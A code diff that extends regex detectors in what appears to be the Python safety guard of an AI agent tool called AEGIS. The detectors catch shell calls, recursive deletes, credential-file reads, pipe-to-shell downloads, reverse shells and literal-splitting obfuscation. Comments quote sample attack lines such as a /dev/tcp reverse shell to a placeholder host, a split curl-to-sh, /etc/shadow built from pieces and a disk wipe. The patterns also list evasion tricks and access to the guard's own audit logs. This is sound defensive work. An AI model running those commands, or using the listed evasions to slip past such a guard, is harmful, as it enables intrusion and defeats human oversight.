@@ -32,28 +32,34 @@ from tools.risk_paths import (
 _SHELL_CALL = GuardedPattern(re.compile(
     r"(?:os\.system|os\.popen|os\.execute|io\.popen|subprocess\.\w+|__import__\(\s*['\"](?:os|subprocess)['\"]\s*\)\.\w+|"
     r"check_output|Popen|system|exec|execSync|spawnSync|(?<![\w.])(?:c|ctx|context|conn)\.(?:run|sudo|local)|"
-    r"(?<![\w.'\"])sh|`|['\"]-c['\"]\s*,)\s*\(?\s*\[?\s*"
+    r"(?<![\w.'\"])sh(?:ell)?|:os\.cmd|`|['\"]-c['\"]\s*,)\s*\(?\s*\[?\s*"
     r"[rbf]?(['\"`])(.+?)\1"),
-    needs=re.compile(r"system|exec|popen|Popen|check_output|spawnSync|subprocess\.|__import__\(|s(?<![\w.]s)h|`|'-c['\"]|\"-c['\"]|"
+    needs=re.compile(r"system|exec|popen|Popen|check_output|spawnSync|subprocess\.|__import__\(|s(?<![\w.]s)h|:os\.cmd|`|'-c['\"]|"
+                     r"\"-c['\"]|"
                      r"c(?<![\w.]c)(?:tx|ontext|onn)?\.(?:run|sudo|local)"))
-_DELETE_CALLS = r"shutil\.rmtree|os\.removedirs|rmSync|rmdirSync|remove_tree|rm_rf|rm_r|remove_dir_all|RemoveAll"
+_DELETE_CALLS = (r"shutil\.rmtree|os\.removedirs|rmSync|rmdirSync|remove_tree|rm_rf|rm_r|remove_dir_all|RemoveAll|"
+                 r"deleteRecursively")
 _TREE_DELETE = GuardedPattern(re.compile(
     rf"\b(?:{_DELETE_CALLS}|rmtree|FileUtils\.rm\w*|rimraf|Remove-Item)\b|\bunlink\(.*recursive\s*=\s*TRUE|"
-    r"['\"]rm(?:\s+|['\"]\s*,\s*['\"])-[a-zA-Z]*[rR]"))  # `'rm -rf'`, `["rm", "-rf"]`
+    r"['\"]rm(?:\s+|['\"]\s*,\s*['\"])-[a-zA-Z]*[rR]|"  # `'rm -rf'`, `["rm", "-rf"]`
+    r"Directory\.Delete\([^()]*,\s*true\s*\)|\brm\([^()]*recursive\s*=\s*true|RecursiveIteratorIterator::CHILD_FIRST"))
 _LITERAL_TREE_DELETE = re.compile(rf"(?:{_DELETE_CALLS}|rmdir)\s*\(\s*[rbf]?(['\"])(.+?)\1")
 _HOME_REFERENCE = re.compile(
     r"expanduser\(\s*[rbf]?['\"]~/?['\"]\s*\)|Path\(\s*[rbf]?['\"]~/?['\"]\s*\)\.expanduser\(\)|Path\.home\(\)|homedir\(\)|\$ENV\{\s*['\"]?HOME['\"]?\s*\}|"
     r"process\.env\.HOME|environ(?:\.get\(|\[)\s*['\"]HOME['\"]|getenv\(\s*['\"]HOME['\"]|Dir\.home|ENV\[\s*['\"]HOME['\"]|"
     r"env::var(?:_os)?\(\s*\"HOME\"|home_dir\(\)|"
     r"\$env:USERPROFILE|\$env:HOME\b|\$HOME\b|~['\"]|getProperty\(\s*['\"]user\.home|UserHomeDir\(\)|"
-    r"GetFolderPath\(\s*(?:['\"]?(?:\[Environment\+SpecialFolder\]::)?UserProfile|40\s*\))|path\.expand\(\s*['\"]~")
+    r"GetFolderPath\(\s*(?:['\"]?(?:\[Environment\+SpecialFolder\]::)?UserProfile|40\s*\))|path\.expand\(\s*['\"]~|"
+    r"homeDirectoryForCurrentUser|NSHomeDirectory\(\)|System\.user_home|\$_SERVER\[\s*['\"]HOME|"
+    r"GetEnvironmentVariable\(\s*\"(?:HOME|USERPROFILE)\"")
 # Token files in the home directory named in code that also finds the home directory (gradle.properties too: code
 # that reads it from home is after its signing and publishing passwords).
 _HOME_TOKEN_FILE = re.compile(r"['\"/\\](?:" + "|".join(
     re.escape(n).replace("/", r"[/\\]") for n in (*HOME_SECRETS, ".gradle/gradle.properties")) + r")\b")
 _JOINED_LITERALS = re.compile(r"""(['"])(?<=[\w/.-].)\s*(?:\+|\.\.?|\*)\s*\1(?=[\w/.-])""")  # + . .. *
-# Literals Python joins by a space alone, right after `(` or `=` (`("ae" "gis")`); a shell's words stay apart.
-_ADJACENT_LITERALS = re.compile(r"""([(=][ \t]*)(['"])([^'"\n]*)\2[ \t]+\2(?=[^'"\n]*\2)""")
+# Literals Python joins by a space alone, right after `(`, `=`, `,` or `/` (`("ae" "gis")`, `base / "ae" "gis"`); a
+# shell's words stay apart.
+_ADJACENT_LITERALS = re.compile(r"""([(=,/][ \t]*)(['"])([^'"\n]*)\2[ \t]+\2(?=[^'"\n]*\2)""")
 _PARENTHESIZED_LITERAL = re.compile(r"""(?<![\w)\]])\(\s*((['"])[^'"\n]*\2)\s*\)""")  # `("aegis")`, not a call
 # Literals of either quote joined by `+` (`'curl -fsSL ' + "https://…" + ' | ' + 'sh'`): the one literal they make.
 _ADDED_LITERALS = re.compile(r"""(?<![\w\\])(['"])([^'"\n\\]*)\1[ \t]*\+[ \t]*(['"])([^'"\n\\]*)\3""")
@@ -62,6 +68,10 @@ _WORD_LIST_JOINED = re.compile(r"""%w[\[(]([^\])\n]*)[\])]\.join(?:\(\s*(['"])\2
 # Words joined by a space into one command line (`["curl", "-fsSL", url].join(" ")`): a name stands for its value.
 _SPACE_JOINED_LIST = re.compile(r"""\[\s*((?:(?:['"][^'"\n]*['"]|[A-Za-z_$][\w$.]*)\s*,\s*)+"""
                                 r"""(?:['"][^'"\n]*['"]|[A-Za-z_$][\w$.]*))\s*,?\s*\]\.join\(\s*(['"]) \2\s*\)""")
+# A shell wired to a network socket through bash's /dev/tcp (`bash -i >& /dev/tcp/HOST/PORT 0>&1`), held in a literal.
+_SHELL_OVER_TCP = re.compile(r"(?:ba)?sh\s+-i\b[^'\"\n]*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^'\"\n]*0>&1")
+# A list of literals joined with nothing between (`Enum.join(["cu", "rl -fsS"])`, Julia's `join([...])`).
+_JOINED_TEXT_LIST = re.compile(r"""(?:\bEnum\.join|(?<![\w.])join)\(\s*\[\s*((?:"[^"\n]*"\s*,\s*)+"[^"\n]*")\s*\]\s*\)""")
 _ENVIRONMENT_DEFAULT = re.compile(r"""\bos\.(environ\.get|getenv)\(\s*((['"])\w+\3)\s*,\s*""")
 # A list of literals joined with nothing between them (`implode('', ['ae', 'gis'])`, `''.join(['ae', 'gis'])`,
 # `["ae", "gis"].concat()`, `paste0(c("ae", "gis"), collapse = "")`, Julia's `join(["ae", "gis"])`): the text it makes.
@@ -77,7 +87,7 @@ _PASTED_LITERALS = GuardedPattern(re.compile(r"""\bpaste0\(\s*((?:(['"])[^'"]*\2
 _QUOTED_PATH = re.compile(r"""['"]((?:~|/)[^'"\s]*)['"]""")
 _AEGIS_DATA = re.compile(r"\.local[/\\]share[/\\]aegis")
 # The user's data folder found (`XDG_DATA_HOME`, `~/.local/share` in pieces) and AEGIS's name as one of its folders.
-_DATA_HOME = re.compile(r"""XDG_DATA_HOME|\.local[/\\]share|['"]\.local['"]\s*,\s*['"]share['"]""")
+_DATA_HOME = re.compile(r"""XDG_DATA_HOME|\.local[/\\]share|['"]\.local['"]\s*[,/]\s*['"]share['"]""")
 _AEGIS_NAME = re.compile(r"""['"]aegis['"]""", re.I)
 # A glob over the data folders of every program (`~/.local/share/*/audit*.log`) that names an audit log or a policy.
 _AEGIS_BY_GLOB = re.compile(r"\.local[/\\]share[/\\]([^/\\'\"\s]*[*?\[][^/\\'\"\s]*)[/\\][^'\"\s]*(?:audit|polic)", re.I)
@@ -89,7 +99,7 @@ _WRITES = re.compile(
     r"file\.remove|file\.rename|rm|file_put_contents|put|write|fwrite|fputs|ftruncate)\b", re.I)
 _FETCH = GuardedPattern(re.compile(
     r"\b(?:urlopen|urlretrieve|requests\.(?:get|post)|urllib|http\.client|httpx|fetch\(|https?\.get\(|LWP|open-uri|"
-    r"Net::HTTP|URI\.open|getstore|get\(['\"]https?:|copy\(\s*['\"]https?:|download\.file|Downloads\.download|\burl\(|(?:read|scan)_\w+\(\s*['\"]https?:|file_get_contents\(\s*['\"]https?:|DownloadString|DownloadFile|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|curl|wget|XMLHTTP|WinHttpRequest)"))
+    r"Net::HTTP|URI\.open|getstore|URLSession|Http::|:httpc\.|HTTPoison|get\(['\"]https?:|copy\(\s*['\"]https?:|download\.file|Downloads\.download|\burl\(|(?:read|scan)_\w+\(\s*['\"]https?:|file_get_contents\(\s*['\"]https?:|DownloadString|DownloadFile|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|curl|wget|XMLHTTP|WinHttpRequest)"))
 _RUN_TEXT = GuardedPattern(re.compile(r"(?<![\w.])(?:exec|eval|compile|Function)\s*[\(\s]|\b(?:Invoke-Expression|iex|instance_eval)\s*[\(\s]|"
                                       r"(?i:\[scriptblock\]::Create\()|\b(?:include|require)(?:_once)?\s+['\"$]"),  # PHP's include 'x.php'
                            needs=re.compile(r"exec|eval|compile|Function|Invoke-Expression|iex|instance_eval|include|require|\]::"))
@@ -104,8 +114,8 @@ _SENDS = GuardedPattern(re.compile(
     r"urlopen|urlretrieve|\brequests\.\w+\(|httpx|http\.client|\bfetch\(|https?\.(?:get|request)\(|LWP|Net::HTTP|"
     r"HTTP::Tiny|URI\.open|download\.file|Downloads\.download|\burl\(|curl_\w+\(|WebClient|DownloadString|"
     r"(?i:Invoke-WebRequest|Invoke-RestMethod|\biwr\b|\birm\b|Send-MailMessage)|smtplib|Net::SMTP|httr::|\bPOST\(|\bPUT\(|"
-    r"\bupload\w*\(|\bDial\w*\(|\bconnect\(|mail\(|fsockopen"))
-_PIPE_TO_SHELL = re.compile(r"\|\s*(?:ba)?sh\b")
+    r"\bupload\w*\(|\bDial\w*\(|\bconnect\(|mail\(|fsockopen|URLSession|Http::|:httpc\.|HTTPoison|\bReq\.(?:post|put)\("))
+_PIPE_TO_SHELL = re.compile(r"\|\s*(?:ba)?sh\b|pipeline\(.*`(?:ba)?sh`")  # Julia's pipeline(`curl …`, `sh`)
 # Ways code runs a command or code it holds as text. Code with none of them (Python that only imports shlex and
 # prints) cannot run the command lines it holds: they are data, as in a linter's or a lesson's list of examples.
 _RUNS_COMMANDS = tuple(GuardedPattern(re.compile(alternative, re.M)) for alternative in (  # each with its own guard
@@ -115,7 +125,7 @@ _RUNS_COMMANDS = tuple(GuardedPattern(re.compile(alternative, re.M)) for alterna
     r"(?i:\b(?:Start-Process|Invoke-Expression|iex|Invoke-Command)\b|\[scriptblock\])",
     r"subprocess|child_process|\bpty\b|ctypes|Open3|%x|\bqx\b|\bsh\.|pexpect|plumbum", r"`", r"&\s*[$({'\"]",
     r"\bimport\s+(?:[\w.]+\s*,\s*)*os\b|\bfrom\s+os\s+import\b",
-    r"^\s*(?:silent!?\s+)?!\w", r"\.exe\b|\b(?:ba|z)?sh\s+-c\b"))
+    r"^\s*(?:silent!?\s+)?!\w", r"\.exe\b|\b(?:ba|z)?sh\s+-c\b", r"\bSystem\.cmd\b|:os\.cmd\b|\bProcess\.(?:run|start)\b"))
 
 
 @lru_cache(maxsize=256)  # a script's text is asked about by the text rules and by held_commands
@@ -167,10 +177,11 @@ _PS_DELETE = GuardedPattern(re.compile(r"(?:Remove-Item|\bri|\brd|\brmdir|\bdel)
                                        r"['\"]?([^-'\"\s;|][^'\"\s;|]*)['\"]?([^;|]*)", re.I),
                             needs=re.compile(r"r(?<!\wr)(?:i|d|mdir)\s|d(?<!\wd)el\s|remove-item\s"))  # the verb before a blank
 _SOCKET = re.compile(r"socket|IO::Socket|TCPSocket|net['\"]?\)?\.connect|net\.Socket|createConnection|fsockopen|Sockets\.TCPClient|"
-                     r"net\.Dial\w*\(|TcpStream::connect")
+                     r"net\.Dial\w*\(|TcpStream::connect|:gen_tcp\.connect|Socket\.connect\(")
 # Node's net module loaded under any name (`n = require('net'); n.connect(…)`).
 _NET_MODULE = re.compile(r"""require\(\s*['"](?:node:)?net['"]\s*\)|from\s+['"](?:node:)?net['"]""")
-_SOCKET_TO_SHELL = GuardedPattern(re.compile(r"dup2|pty|spawn|\bexec|system|fdopen|/bin/(?:ba)?sh|cmd\.exe|popen|subprocess|iex|Invoke-Expression"))
+_SOCKET_TO_SHELL = GuardedPattern(re.compile(r"dup2|pty|spawn|\bexec|system|fdopen|/bin/(?:ba)?sh|cmd\.exe|popen|subprocess|iex|"
+                                              r"Invoke-Expression|:os\.cmd|System\.cmd|Process\.(?:run|start)"))
 # Loading pickled objects runs whatever code the pickle names: from a download, that is downloaded code run.
 UNPICKLES = GuardedPattern(re.compile(r"(?s)\b(?:pickle|cPickle|dill|cloudpickle|joblib|pd|pandas)\.(?:loads?|read_pickle)\s*\(|"
                                       r"torch\.load\s*\((?=.{0,300}?weights_only\s*=\s*False)|"
@@ -195,7 +206,8 @@ _ENCODED_LITERAL = GuardedPattern(re.compile(r"""\b(fromhex|unhexlify|b64decode|
 _CHARACTER_CODES = re.compile(r"(?:intToUtf8\(\s*c\(|string\.char\(|fromCharCode\(|\[char\[\]\]\s*\(|bytes\(\s*\[|"
                               r"map\(\s*chr\s*,\s*[\[(])\s*((?:\d+\s*,\s*){3,}\d+)")
 # A shell call whose command is not a literal: with a download in the same code, it runs what was downloaded.
-_COMPUTED_SHELL_CALL = re.compile(r"(?:os\.system|os\.popen|subprocess\.\w+|Popen|check_output)\s*\(\s*(?![rbf]?['\"\[])")
+_COMPUTED_SHELL_CALL = re.compile(r"(?:os\.system|os\.popen|subprocess\.\w+|Popen|check_output)\s*\(\s*(?![rbf]?['\"\[])|"
+                                  r"['\"]-c['\"]\s*,\s*(?![rbf]?['\"\[])")  # a shell given text the code computes
 # Models whose own code is fetched and run: `from_pretrained('org/name', trust_remote_code=True)`.
 _REMOTE_MODEL_CODE = re.compile(r"from_pretrained\(\s*['\"]([^'\"]+)['\"](?=[^)]*trust_remote_code\s*=\s*True)")
 # Command lines held as data in code that runs anything: a list of words (`['mkfs.ext4', '-F', '/dev/sda1']`) or a
@@ -228,6 +240,7 @@ def code_risks(code: str, ctx: ActionContext, from_file: bool = False) -> tuple[
                                  + (m.group(1) or m.group(3)), code)
     code = _WORD_LIST_JOINED.sub(lambda m: '"' + "".join(m.group(1).split()) + '"', code)
     code = _SPACE_JOINED_LIST.sub(lambda m: _command_line(m.group(1)), code)
+    code = _JOINED_TEXT_LIST.sub(lambda m: _one_literal(m.group(1)), code)
     code = _adjacent_joined(_JOINED_LITERALS.sub("", _environment_defaults(code)))  # '/etc/' + 'sha' + 'dow': '/etc/shadow'
     while _ADDED_LITERALS.search(code):
         code = _ADDED_LITERALS.sub(r'"\2\4"', code)
@@ -298,7 +311,7 @@ def code_risks(code: str, ctx: ActionContext, from_file: bool = False) -> tuple[
         risks.append(ActionRisk(DENY, "destructive", "inline code erases a disk or a whole drive", "act.code.disk"))
     if _FORK_LOOP.search(code):
         risks.append(ActionRisk(DENY, "destructive", "inline code forks in a loop (fork bomb)", "act.code.fork_bomb"))
-    if _opens_socket(code) and _SOCKET_TO_SHELL.search(code):
+    if _opens_socket(code) and _SOCKET_TO_SHELL.search(code) or _SHELL_OVER_TCP.search(code) and _runs_commands(code):
         risks.append(ActionRisk(DENY, "exfiltration", "inline code wires a network socket to a shell",
                                 "act.code.reverse_shell"))
     risks.append(ActionRisk(ESCALATE, "code", "runs arbitrary inline code", "act.shell.inline_code"))
@@ -386,6 +399,7 @@ def _quoted(text: str) -> str:
 # `subprocess.run(['rm', '-rf', path])`; a word the code computes is written as `_UNSHOWN`.
 _UNSHOWN = "ARG"
 _ARGV_CALL = re.compile(r"""(?:\b(?:spawn|spawnSync|execFile|execFileSync|execa|execaSync|Popen|check_call|check_output|IO\.popen|"""
+                        r"""System\.cmd|Process\.run|Process\.start|"""
                         r"""execv|execvp)|(?:subprocess\.|(?<![\w.]))(?:run|call))\s*\(\s*"""
                         r"""(?:(['"])([\w./-]+)\1\s*,\s*)?\[([^\[\]]*)\]""")
 
